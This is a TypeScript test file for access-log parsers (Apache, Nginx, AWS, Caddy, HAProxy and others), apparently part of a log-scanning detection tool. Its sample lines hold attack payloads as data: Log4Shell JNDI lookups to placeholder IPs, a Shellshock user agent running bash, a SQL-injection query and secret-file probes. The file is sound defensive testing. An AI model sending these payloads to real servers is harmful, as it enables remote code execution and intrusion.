import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { autoParser, detectFormat, makeParser } from '../../../lambdas/core/formats/index.js';
import { MAX_TIME_CANDIDATES } from '../../../lambdas/core/formats/template.js';
import type { LogRecord, ParseResult } from '../../../lambdas/core/model.js';
import { scanLines } from '../../support/detector.js';

function ok(result: ParseResult | null): LogRecord {
  assert.ok(result, 'expected a record, got a header/comment skip');
  assert.ok(result.ok, `expected a record, got ${result.ok ? '' : result.reason}`);
  return result.record;
}

type Case = { name: string; format: string; line: string; expect: Partial<LogRecord> & { iso?: string } };

const UA = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0';
const cases: Case[] = [
  {
    name: 'Apache common',
    format: 'common',
    line: '5.135.167.145 - - [22/Mar/2015:17:34:20 -0400] "GET /cgi-bin/php HTTP/1.1" 404 209',
    expect: { peerIp: '5.135.167.145', method: 'GET', path: '/cgi-bin/php', protocol: 'HTTP/1.1', status: 404, bytes: 209, iso: '2015-03-22T21:34:20.000Z' },
  },
  {
    name: 'Apache common, bytes "-"',
    format: 'common',
    line: '127.0.0.1 - - [22/Mar/2015:17:34:28 -0400] "OPTIONS * HTTP/1.0" 200 -',
    expect: { method: 'OPTIONS', target: '*', bytes: 0, status: 200, requestMalformed: false },
  },
  {
    name: 'combined with escaped quotes in the user agent',
    format: 'combined',
    line: `198.51.100.4 - bob [01/Jan/2024:00:00:01 +0000] "GET /a?b=1 HTTP/2.0" 200 5 "https://ref.example/" "say \\"hi\\" ${UA}"`,
    expect: { path: '/a', query: 'b=1', referer: 'https://ref.example/', userAgent: `say "hi" ${UA}`, protocol: 'HTTP/2.0' },
  },
  {
    name: 'combined, malformed request line kept and flagged',
    format: 'combined',
    line: '64.34.169.223 - - [21/Mar/2015:21:41:43 -0400] "GET HTTP/1.1 HTTP/1.1" 400 226 "-" "-"',
    expect: { method: 'GET', target: 'HTTP/1.1', requestMalformed: true, status: 400, userAgent: '', referer: '' },
  },
  {
    name: 'combined, TLS bytes logged by Apache',
    format: 'combined',
    line: '192.0.2.9 - - [01/Jan/2024:00:00:01 +0000] "\\x16\\x03\\x01\\x02" 400 226 "-" "-"',
    expect: { requestMalformed: true, request: '\u0016\u0003\u0001\u0002' },
  },
  {
    name: 'combined, IPv6 client and absolute-form target',
    format: 'combined',
    line: '2001:db8::5 - - [01/Jan/2024:00:00:01 +0000] "GET http://other.example/x?y HTTP/1.1" 404 0 "-" "curl/8"',
    expect: { peerIp: '2001:db8::5', target: 'http://other.example/x?y', path: '/x', query: 'y', requestMalformed: false },
  },
  {
    name: 'combined with extra trailing fields (tolerated)',
    format: 'combined',
    line: `198.51.100.4 - - [01/Jan/2024:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "${UA}" 0.004 upstream=1`,
    expect: { userAgent: UA, status: 200 },
  },
  {
    name: 'vhost_combined',
    format: 'vhost_combined',
    line: `www.example.com:443 198.51.100.4 - - [01/Jan/2024:00:00:01 +0000] "GET /x HTTP/1.1" 301 0 "-" "${UA}"`,
    expect: { host: 'www.example.com', peerIp: '198.51.100.4', status: 301 },
  },
  {
    name: 'vhost_combined without the port (%v instead of %v:%p)',
    format: 'vhost_combined',
    line: `www.example.com 198.51.100.4 - - [01/Jan/2024:00:00:01 +0000] "GET /x HTTP/1.1" 301 0 "https://ref.example/" "${UA}"`,
    expect: { host: 'www.example.com', peerIp: '198.51.100.4', status: 301, referer: 'https://ref.example/', userAgent: UA },
  },
  {
    name: 'vhost_combined with a bracketed IPv6 virtual host and port',
    format: 'vhost_combined',
    line: `[2001:db8::1]:8443 2001:db8::5 - - [01/Jan/2024:00:00:01 +0000] "GET /x HTTP/1.1" 200 0 "-" "${UA}"`,
    expect: { host: '[2001:db8::1]', peerIp: '2001:db8::5', userAgent: UA },
  },
  {
    name: 'Nginx log_format with $host:$server_port, port left out',
    format: 'nginx:$host:$server_port $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"',
    line: `shop.example 203.0.113.1 - - [01/Jan/2024:00:00:01 +0000] "GET /wp-login.php HTTP/1.1" 404 162 "-" "${UA}"`,
    expect: { host: 'shop.example', path: '/wp-login.php', userAgent: UA },
  },
  {
    name: 'vhost_common',
    format: 'vhost_common',
    line: 'www.example.com 1.2.3.4 - theuser [10/Feb/2012:16:42:07 -0500] "GET / HTTP/1.0" 301 368',
    expect: { host: 'www.example.com', peerIp: '1.2.3.4', iso: '2012-02-10T21:42:07.000Z' },
  },
  {
    name: 'Apache LogFormat with %a %U %q %H %m and X-Forwarded-For',
    format: 'apache:%a %t %m %U%q %H %>s %B %D "%{X-Forwarded-For}i" "%{User-Agent}i" %v',
    line: '10.0.0.2 [01/Jan/2024:10:00:00 +0100] POST /login?next=/ HTTP/1.1 401 12 5000 "203.0.113.9" "curl/8" shop.example',
    expect: {
      peerIp: '10.0.0.2',
      method: 'POST',
      path: '/login',
      query: 'next=/',
      status: 401,
      forwardedFor: '203.0.113.9',
      host: 'shop.example',
      iso: '2024-01-01T09:00:00.000Z',
    },
  },
  {
    name: 'Apache LogFormat as written in httpd.conf (escaped quotes) with %{msec}t',
    format: 'apache:%h %{msec}t \\"%r\\" %>s',
    line: '192.0.2.1 1704067200123 "GET / HTTP/1.1" 200',
    expect: { iso: '2024-01-01T00:00:00.123Z', status: 200 },
  },
  {
    name: 'Nginx log_format with $time_iso8601 and $request_uri',
    format:
      'nginx:$remote_addr [$time_iso8601] "$request_method $request_uri $server_protocol" $status $body_bytes_sent "$http_user_agent" "$http_x_forwarded_for" $request_time',
    line: '10.1.2.3 [2024-05-01T12:00:00+02:00] "GET /.env?x=1 HTTP/1.1" 404 153 "Go-http-client/1.1" "198.51.100.7" 0.001',
    expect: { path: '/.env', query: 'x=1', forwardedFor: '198.51.100.7', iso: '2024-05-01T10:00:00.000Z' },
  },
  {
    name: 'Nginx default combined (same text as Apache combined)',
    format: 'nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"',
    line: `203.0.113.1 - - [01/Jan/2024:00:00:01 +0000] "GET /wp-login.php HTTP/1.1" 404 162 "-" "${UA}"`,
    expect: { path: '/wp-login.php', status: 404 },
  },
  {
    name: 'AWS ALB with absolute request URI and later-added fields',
    format: 'alb',
    line: 'https 2024-03-01T10:00:00.123456Z app/my-alb/abc 203.0.113.50:51234 10.0.1.5:80 0.001 0.002 0.000 404 404 120 300 "GET https://shop.example.com:443/.git/config?x=1 HTTP/1.1" "zgrab/0.x" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/tg/abc "Root=1-abc" "shop.example.com" "arn:aws:acm:cert" 0 2024-03-01T10:00:00.100000Z "forward" "-" "-" "10.0.1.5:80" "404" "-" "-" TID_1 "-" "-" "-" future-field',
    expect: {
      peerIp: '203.0.113.50',
      host: 'shop.example.com',
      target: '/.git/config?x=1',
      path: '/.git/config',
      status: 404,
      userAgent: 'zgrab/0.x',
      iso: '2024-03-01T10:00:00.123Z',
    },
  },
  {
    name: 'AWS ALB with IPv6 client',
    format: 'alb',
    line: 'h2 2024-03-01T10:00:00.000000Z app/a/b 2001:db8::9:40000 10.0.0.1:80 0 0 0 200 200 1 2 "GET https://x.example:443/ HTTP/2.0" "ua" - -',
    expect: { peerIp: '2001:db8::9', path: '/', status: 200 },
  },
  {
    name: 'classic ELB',
    format: 'elb',
    line: '2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -',
    expect: { peerIp: '192.168.131.39', path: '/', host: 'www.example.com' },
  },
  {
    name: 'CloudFront without header (documented column order), double-encoded user agent',
    format: 'cloudfront',
    line: '2024-02-02\t03:04:05\tFRA2\t182\t192.0.2.10\tGET\td111.cloudfront.net\t/wp-admin/setup-config.php\t404\t-\tMozilla/5.0%2520(X11)\tstep=1\t-\tError\tid==\twww.example.com\thttps\t217\t0.001\t198.51.100.3\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tError\tHTTP/2.0\t-\t-\t5555\t0.001\tError\ttext/html\t0\t-\t-',
    expect: {
      peerIp: '192.0.2.10',
      path: '/wp-admin/setup-config.php',
      query: 'step=1',
      userAgent: 'Mozilla/5.0 (X11)',
      host: 'www.example.com',
      forwardedFor: '198.51.100.3',
      protocol: 'HTTP/2.0',
      iso: '2024-02-02T03:04:05.000Z',
    },
  },
  {
    name: 'JSON: Nginx escape=json style',
    format: 'json',
    line: '{"time_iso8601":"2024-01-01T00:00:00+00:00","remote_addr":"203.0.113.4","request":"GET /phpinfo.php HTTP/1.1","status":"404","body_bytes_sent":"0","http_referer":"","http_user_agent":"curl/8","http_x_forwarded_for":"-"}',
    expect: { peerIp: '203.0.113.4', path: '/phpinfo.php', status: 404, forwardedFor: '' },
  },
  {
    name: 'JSON: Caddy (epoch seconds, headers as arrays)',
    format: 'json',
    line: '{"level":"info","ts":1703373474.8155608,"logger":"http.log.access","request":{"remote_ip":"1.2.3.4","remote_port":"64985","proto":"HTTP/2.0","method":"GET","host":"example.com","uri":"/beta/?a=1","headers":{"User-Agent":["Firefox/121.0"]}},"status":200,"size":3609}',
    expect: {
      peerIp: '1.2.3.4',
      method: 'GET',
      path: '/beta/',
      query: 'a=1',
      userAgent: 'Firefox/121.0',
      host: 'example.com',
      protocol: 'HTTP/2.0',
      status: 200,
      iso: '2023-12-23T23:17:54.815Z',
    },
  },
  {
    name: 'JSON: Traefik',
    format: 'json',
    line: '{"ClientHost":"1.2.3.4","request_User-Agent":"Prometheus/2.40.5","DownstreamStatus":200,"RequestHost":"localhost","RequestMethod":"GET","RequestPath":"/my/app/auth?id=1234","RequestProtocol":"HTTP/1.1","StartUTC":"2023-08-11T11:39:21.773360139Z","time":"2023-08-11T11:41:25"}',
    expect: { peerIp: '1.2.3.4', path: '/my/app/auth', query: 'id=1234', userAgent: 'Prometheus/2.40.5', iso: '2023-08-11T11:39:21.773Z' },
  },
  {
    name: 'JSON: Fluent Bit nginx parser fields',
    format: 'json',
    line: '{"remote":"203.0.113.8","host":"-","user":"-","method":"POST","path":"/xmlrpc.php","code":"200","size":"370","referer":"-","agent":"curl/8","time":"01/Jan/2024:00:00:01 +0000"}',
    expect: { peerIp: '203.0.113.8', method: 'POST', path: '/xmlrpc.php', status: 200, host: '' },
  },
  {
    name: 'JSON: Vector parse_nginx_log fields',
    format: 'json',
    line: '{"client":"203.0.113.9","timestamp":"2024-01-01T00:00:01Z","request":"GET /.git/HEAD HTTP/1.1","method":"GET","path":"/.git/HEAD","protocol":"HTTP/1.1","status":404,"size":0,"referrer":"-","agent":"python-requests/2.31"}',
    expect: { peerIp: '203.0.113.9', path: '/.git/HEAD', status: 404, userAgent: 'python-requests/2.31' },
  },
  {
    name: 'JSON: shipper envelope with a raw combined line in "log"',
    format: 'json',
    line: '{"log":"203.0.113.10 - - [01/Jan/2024:00:00:01 +0000] \\"GET /cgi-bin/test.cgi HTTP/1.1\\" 404 0 \\"-\\" \\"-\\"\\n","stream":"stdout"}',
    expect: { peerIp: '203.0.113.10', path: '/cgi-bin/test.cgi', status: 404 },
  },
  {
    name: 'JSON: Caddy behind a proxy: client_ip (after trusted_proxies) wins over remote_ip',
    format: 'json',
    line: '{"level":"info","ts":1796083200.25,"logger":"http.log.access","request":{"remote_ip":"10.0.0.2","remote_port":"41000","client_ip":"203.0.113.40","proto":"HTTP/1.1","method":"GET","host":"shop.example.com","uri":"/.env","headers":{"User-Agent":["Go-http-client/1.1"]}},"status":404,"size":0}',
    expect: { peerIp: '203.0.113.40', path: '/.env', status: 404, userAgent: 'Go-http-client/1.1', iso: '2026-12-01T00:00:00.250Z' },
  },
  {
    name: 'JSON: Traefik with only ClientAddr (address and port)',
    format: 'json',
    line: '{"ClientAddr":"[2001:db8::7]:40522","RequestMethod":"GET","RequestPath":"/wp-login.php","RequestProtocol":"HTTP/2.0","DownstreamStatus":404,"StartUTC":"2026-12-01T12:00:00.5Z","request_User-Agent":"curl/8.4.0"}',
    expect: { peerIp: '2001:db8::7', path: '/wp-login.php', status: 404, userAgent: 'curl/8.4.0', iso: '2026-12-01T12:00:00.500Z' },
  },
  {
    name: 'JSON: AWS WAF (headers as a name/value list, no response status)',
    format: 'json',
    line: '{"timestamp":1796083200000,"formatVersion":1,"webaclId":"arn:aws:wafv2:eu-west-1:123456789012:regional/webacl/shop/1f2e","terminatingRuleId":"AWS-AWSManagedRulesKnownBadInputsRuleSet","action":"BLOCK","httpSourceName":"ALB","httpRequest":{"clientIp":"203.0.113.50","country":"NL","headers":[{"name":"Host","value":"shop.example.com"},{"name":"user-agent","value":"${jndi:ldap://203.0.113.50/a}"}],"uri":"/api/login","args":"next=%2F","httpVersion":"HTTP/1.1","httpMethod":"POST","requestId":"Root=1-abc"}}',
    expect: {
      peerIp: '203.0.113.50',
      method: 'POST',
      path: '/api/login',
      query: 'next=%2F',
      host: 'shop.example.com',
      userAgent: '${jndi:ldap://203.0.113.50/a}',
      status: 0,
      iso: '2026-12-01T00:00:00.000Z',
    },
  },
  {
    name: 'Traefik common log format (combined plus request count, router, server URL, duration)',
    format: 'combined',
    line: '203.0.113.30 - - [01/Dec/2026:12:00:00 +0000] "GET /.git/config HTTP/1.1" 404 19 "-" "Mozilla/5.0 zgrab/0.x" 42 "websecure-shop@docker" "http://172.18.0.5:8080" 2ms',
    expect: { peerIp: '203.0.113.30', path: '/.git/config', status: 404, userAgent: 'Mozilla/5.0 zgrab/0.x', iso: '2026-12-01T12:00:00.000Z' },
  },
  {
    name: 'HAProxy httplog behind an RFC 3164 syslog header',
    format: 'haproxy',
    line: 'Dec  1 12:00:00 lb1 haproxy[2211]: 203.0.113.7:51022 [01/Dec/2026:12:00:00.123] fe_https~ be_web/web2 0/0/1/12/13 404 312 - - ---- 3/3/0/0/0 0/0 "GET /.env HTTP/1.1"',
    expect: { peerIp: '203.0.113.7', method: 'GET', path: '/.env', status: 404, bytes: 312, iso: '2026-12-01T12:00:00.123Z' },
  },
  {
    name: 'HAProxy httplog without a header (log stdout format raw), captured headers, escaped quote',
    format: 'haproxy',
    line: '203.0.113.8:40000 [01/Dec/2026:12:00:01.000] fe_http be_web/<NOSRV> 0/-1/-1/-1/0 -1 +0 - - CR-- 1/1/0/0/0 0/0 {shop.example.com|sqlmap/1.7} {} "GET /?id=1#22%20OR%201=1 HTTP/1.1"',
    expect: { peerIp: '203.0.113.8', status: 0, bytes: 0, path: '/', query: 'id=1"%20OR%201=1' },
  },
  {
    name: 'HAProxy httplog with an IPv6 client (port appended without brackets)',
    format: 'haproxy',
    line: '2001:db8:5::17:44310 [01/Dec/2026:12:00:02.000] fe_https~ be_web/web1 0/0/1/2/3 404 152 - - ---- 1/1/0/0/0 0/0 "GET /.git/HEAD HTTP/1.1"',
    expect: { peerIp: '2001:db8:5::17', path: '/.git/HEAD', status: 404 },
  },
  {
    name: 'S3 server access log',
    format: 's3',
    line: '5f1e0c7b9a4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f shop-assets [01/Dec/2026:12:00:00 +0000] 203.0.113.9 - 7A1C0D2E3F4B5A69 REST.GET.OBJECT backup.zip "GET /shop-assets/backup.zip?x=1 HTTP/1.1" 404 NoSuchKey 243 - 12 - "-" "python-requests/2.31.0" - bG9nIGxpbmUgd3JpdHRlbiBmb3IgdGVzdHM= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader shop-assets.s3.eu-west-1.amazonaws.com TLSv1.2 - -',
    expect: {
      peerIp: '203.0.113.9',
      path: '/shop-assets/backup.zip',
      query: 'x=1',
      status: 404,
      bytes: 243,
      userAgent: 'python-requests/2.31.0',
      host: 'shop-assets.s3.eu-west-1.amazonaws.com',
      iso: '2026-12-01T12:00:00.000Z',
    },
  },
  {
    name: 'Nginx combined through syslog (RFC 5424 with structured data)',
    format: 'syslog:combined',
    line: '<190>1 2026-12-01T12:00:00.000Z web1 nginx - - [meta sequenceId="7" note="a \\] b"] 198.51.100.21 - - [01/Dec/2026:12:00:00 +0000] "GET /cgi-bin/test.cgi HTTP/1.1" 404 153 "-" "() { :; }; /bin/bash -c id"',
    expect: { peerIp: '198.51.100.21', path: '/cgi-bin/test.cgi', userAgent: '() { :; }; /bin/bash -c id', iso: '2026-12-01T12:00:00.000Z' },
  },
  {
    name: "Nginx combined through syslog (rsyslog's ISO 8601 header)",
    format: 'syslog:combined',
    line: '2026-12-01T12:00:00.123456+00:00 web1 nginx: 198.51.100.22 - - [01/Dec/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"',
    expect: { peerIp: '198.51.100.22', path: '/', status: 200, userAgent: 'Mozilla/5.0' },
  },
];

describe('format parsers', () => {
  for (const c of cases) {
    it(c.name, () => {
      const r = ok(makeParser(c.format).parse(c.line));
      const { iso, ...fields } = c.expect;
      for (const [k, v] of Object.entries(fields)) assert.deepEqual(r[k as keyof LogRecord], v, `field ${k}`);
      if (iso) assert.equal(new Date(r.time).toISOString(), iso);
      assert.equal(r.raw, c.line);
      assert.equal(r.clientIp, r.peerIp, 'before proxy resolution the client is the peer');
    });
  }

  const failures: [string, string, string][] = [
    ['common', 'this is not a log line', 'format-mismatch'],
    ['common', '1.2.3.4 - - [99/Foo/2015:17:34:20 -0400] "GET / HTTP/1.1" 200 1', 'bad-%t'],
    ['common', '1.2.3.4 - - [22/Mar/2015:17:34:20 -0400] "GET / HTTP/1.1" abc 1', 'bad-%>s'],
    ['alb', 'http 2024-03-01T10:00:00Z app/x', 'too-few-fields'],
    ['alb', 'tcp 2024-03-01T10:00:00Z', 'format-mismatch'],
    ['json', '{"msg": "not a request"}', 'unrecognised-message'],
    ['json', '{broken', 'invalid-json'],
    ['json', '[1,2]', 'not-json'],
    ['cloudfront', 'yesterday\tnoon', 'format-mismatch'],
    ['haproxy', '203.0.113.8:40000 [01/Dec/2026:12:00:01.000] fe_tcp be_tcp/srv1 0/0/5 212 -- 1/1/1/1/0 0/0', 'not-http'],
    ['haproxy', 'Dec  1 12:00:00 web1 sshd[999]: Failed password for root from 203.0.113.5 port 40000 ssh2', 'format-mismatch'],
    [
      's3',
      '5f1e0c7b9a4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f shop-assets [01/Dec/2026:03:00:00 +0000] - AmazonS3 8B2D1E0F3A4C5B67 S3.EXPIRE.OBJECT old/report.csv "-" - - - 1024 - - "-" "-" - - - - - - - -',
      'not-http',
    ],
    ['s3', 'shop-assets [01/Dec/2026:12:00:00 +0000] 203.0.113.9 - x REST.GET.OBJECT k "GET / HTTP/1.1" 200', 'format-mismatch'],
    ['vhost_combined', 'www.example.com 1.2.3.4 - theuser [10/Feb/2012:16:42:07 -0500] "GET / HTTP/1.0" 301 368', 'format-mismatch'],
    ['vhost_combined', '1.2.3.4 - - [10/Feb/2012:16:42:07 -0500] "GET / HTTP/1.0" 301 368 "-" "curl/8"', 'format-mismatch'],
    ['apache:%v:%p|%h %t "%r" %>s', 'a b|1.2.3.4 [10/Feb/2012:16:42:07 -0500] "GET / HTTP/1.0" 301', 'bad-%v:%p'],
    ['syslog:combined', '198.51.100.22 - - [01/Dec/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 612 "-" "-"', 'format-mismatch'],
  ];
  for (const [format, line, reason] of failures) {
    it(`${format} rejects "${line.slice(0, 30)}" as ${reason}`, () => {
      const r = makeParser(format).parse(line);
      assert.ok(r && !r.ok);
      assert.equal(r.reason, reason);
    });
  }

  it('never throws on junk input', () => {
    const junk = ['', '"', '[', '\u0000\u0001', '{"a":', '- - - [', 'x'.repeat(10_000), '1.2.3.4 - - [', '"GET / HTTP/1.1"'];
    for (const f of ['common', 'combined', 'vhost_combined', 'alb', 'elb', 'cloudfront', 'json', 'haproxy', 's3', 'syslog:common']) {
      for (const j of junk) assert.doesNotThrow(() => makeParser(f).parse(j), `${f} on ${JSON.stringify(j.slice(0, 20))}`);
    }
  });

  it('JSON: a number field or a header name nested 100,000 arrays deep (a 200-KB line) is read without recursion', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const line = (extra: string) => `{"time":"2026-12-01T12:00:01Z","remote_addr":"203.0.113.9","request":"GET /x HTTP/1.1"${extra}}`;
    const p = makeParser('json');
    const status = p.parse(line(`,"status":${deep}`));
    assert.ok(status && !status.ok);
    assert.equal(status.reason, 'bad-status');
    assert.equal(ok(p.parse(line(`,"status":404,"bytes":${deep}`))).bytes, 0);
    const r = ok(p.parse(line(`,"status":404,"httpRequest":{"headers":[{"name":${deep},"value":"x"},{"name":"User-Agent","value":"curl/8"}]}`)));
    assert.equal(r.userAgent, 'curl/8');
    assert.equal(r.status, 404);
  });

  it('W3C: the #Fields header sets the columns (IIS, space-separated, + for spaces)', () => {
    const p = makeParser('w3c');
    assert.equal(p.parse('#Software: Microsoft Internet Information Services 10.0'), null);
    assert.equal(
      p.parse(
        '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
      ),
      null,
    );
    const r = ok(p.parse('2024-01-01 00:00:01 10.0.0.1 GET /admin.php id=1 443 - 203.0.113.77 Mozilla/5.0+(Windows+NT+10.0) - 404 0 2 15'));
    assert.equal(r.peerIp, '203.0.113.77');
    assert.equal(r.path, '/admin.php');
    assert.equal(r.userAgent, 'Mozilla/5.0 (Windows NT 10.0)');
    assert.equal(r.status, 404);
  });

  it('rejects unusable format strings with a clear message', () => {
    assert.throws(() => makeParser('apache:%h %l'), /no timestamp/);
    assert.throws(() => makeParser('apache:%t %r'), /no client address/);
    assert.throws(() => makeParser('apache:%h%t "%r"'), /nothing between them/);
    assert.throws(() => makeParser('apache:%h %t %Z'), /unknown LogFormat directive %Z/);
    assert.throws(() => makeParser('nginx:$remote_addr [$time_local] $'), /not followed by a variable name/);
    assert.throws(() => makeParser('syslog'), /unknown format "syslog".*syslog:<one of them>/);
  });
});

describe('user agents and referers repeated line after line', () => {
  it('reads a user agent repeated from the line before, and one that changed, right (the last one is kept)', () => {
    const p = makeParser('combined');
    const line = (ua: string) => `203.0.113.7 - - [01/Mar/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "https://a.example/x" "${ua}"`;
    const a = ok(p.parse(line('Mozilla/5.0 \\"quoted\\" (X11; Linux x86_64)')));
    const b = ok(p.parse(line('Mozilla/5.0 \\"quoted\\" (X11; Linux x86_64)')));
    assert.equal(a.userAgent, 'Mozilla/5.0 "quoted" (X11; Linux x86_64)');
    assert.equal(b.userAgent, a.userAgent);
    assert.equal(b.referer, 'https://a.example/x');
    const c = ok(p.parse(line('-')));
    assert.equal(c.userAgent, '', 'a dash is no agent');
    assert.equal(ok(p.parse(line('curl/8'))).userAgent, 'curl/8');
  });
});

describe('a user name holding the separator (it comes from the Authorization header)', () => {
  const tail = '[01/Mar/2024:00:00:07 +0000] "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "-" "curl/8"';
  it('is read to the timestamp that follows it, in Apache and Nginx combined', () => {
    for (const [format, user] of [
      ['combined', 'a b'],
      ['combined', 'x [y'],
      ['combined', 'x [1z'],
      ['nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"', 'a b [c'],
    ] as const) {
      const nginx = format.startsWith('nginx:');
      const line = `203.0.113.7 - ${user} ${nginx ? tail : tail}`;
      const r = ok(makeParser(format).parse(line));
      assert.equal(r.peerIp, '203.0.113.7', `${format} ${user}`);
      assert.equal(r.target, '/?x=${jndi:ldap://192.0.2.1/a}', `${format} ${user}`);
      assert.equal(r.status, 404);
    }
  });
  it('a forged line tail inside the user name does not hide the real request', () => {
    const forged = 'u [01/Mar/2024:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"';
    const r = ok(makeParser('combined').parse(`203.0.113.7 - ${forged} ${tail}`));
    assert.equal(r.target, '/?x=${jndi:ldap://192.0.2.1/a}');
    assert.equal(r.userAgent, 'curl/8');
  });
  it(`tries at most ${MAX_TIME_CANDIDATES} places, so a user name full of them costs a bounded time`, () => {
    const user = Array.from({ length: 1000 }, () => 'a [1').join(' ');
    const r = makeParser('combined').parse(`203.0.113.7 - ${user} ${tail}`);
    assert.ok(r && !r.ok, 'the real timestamp lies past the places tried');
  });
  it('a log whose first lines all carry such user names is still read as a log', () => {
    const lines = [
      ...Array.from({ length: 30 }, (_, i) => `203.0.113.${i} - a b [01/Mar/2024:00:00:0${i % 10} +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"`),
      ...Array.from(
        { length: 40 },
        (_, i) => `198.51.100.9 - - [01/Mar/2024:00:01:${String(i).padStart(2, '0')} +0000] "GET /cgi-bin/x${i}.cgi HTTP/1.1" 404 5 "-" "curl/8"`,
      ),
    ];
    const { report } = scanLines({ a: lines });
    assert.equal(report.lines.parsed, 70);
    assert.equal(report.files[0]?.notLog, undefined);
    assert.equal(report.alerts[0]?.source, '198.51.100.9');
  });
  it('a line another format reads as written is not read loosely: combined lines behind a syslog header among plain ones', () => {
    const combined = (ip: string, s: number) => `${ip} - - [01/Mar/2024:00:00:0${s} +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"`;
    const lines = [
      combined('203.0.113.1', 1),
      combined('203.0.113.2', 2),
      `Mar  1 00:00:03 web2 apache2[2143]: ${combined('203.0.113.3', 3)}`,
      `<190>Mar  1 00:00:04 web2 apache2[2143]: ${combined('203.0.113.4', 4)}`,
      combined('203.0.113.5', 5),
      `203.0.113.6 - a b [01/Mar/2024:00:00:06 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"`,
    ];
    const p = autoParser();
    const read = lines.map((l) => {
      const r = ok(p.parse(l));
      return `${p.format} ${r.peerIp}`;
    });
    assert.deepEqual(read, [
      'combined 203.0.113.1',
      'combined 203.0.113.2',
      'syslog:combined 203.0.113.3',
      'syslog:combined 203.0.113.4',
      'combined 203.0.113.5',
      'combined 203.0.113.6',
    ]);
    // Read loosely by every format, a line with text left over is still read by a richer one.
    const xff = ok(p.parse('203.0.113.8 - a b [01/Mar/2024:00:00:08 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8" "192.0.2.9"'));
    assert.equal(p.format, 'combined_xff');
    assert.equal(xff.forwardedFor, '192.0.2.9');
  });
});

describe('format detection', () => {
  const detect = (lines: string[]) => detectFormat(lines).parser.format;
  it('picks combined over common when both parse', () => {
    assert.equal(detect([`1.2.3.4 - - [01/Jan/2024:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "${UA}"`]), 'combined');
  });
  it('picks common for common lines', () => {
    assert.equal(detect(['1.2.3.4 - - [01/Jan/2024:00:00:01 +0000] "GET / HTTP/1.1" 200 5']), 'common');
  });
  it('recognises ALB, ELB, W3C and JSON', () => {
    assert.equal(detect([cases.find((c) => c.format === 'alb')?.line ?? '']), 'alb');
    assert.equal(detect([cases.find((c) => c.format === 'elb')?.line ?? '']), 'elb');
    assert.equal(detect(['#Version: 1.0', '#Fields: date time c-ip cs-method cs-uri-stem sc-status', '2024-01-01\t00:00:00\t1.2.3.4\tGET\t/\t200']), 'w3c');
    assert.equal(detect([cases.find((c) => c.name.startsWith('JSON: Caddy'))?.line ?? '']), 'json');
  });
  it('reports low confidence when nothing fits', () => {
    const d = detectFormat(['hello world', 'more prose']);
    assert.equal(d.confidence, 0);
  });
});
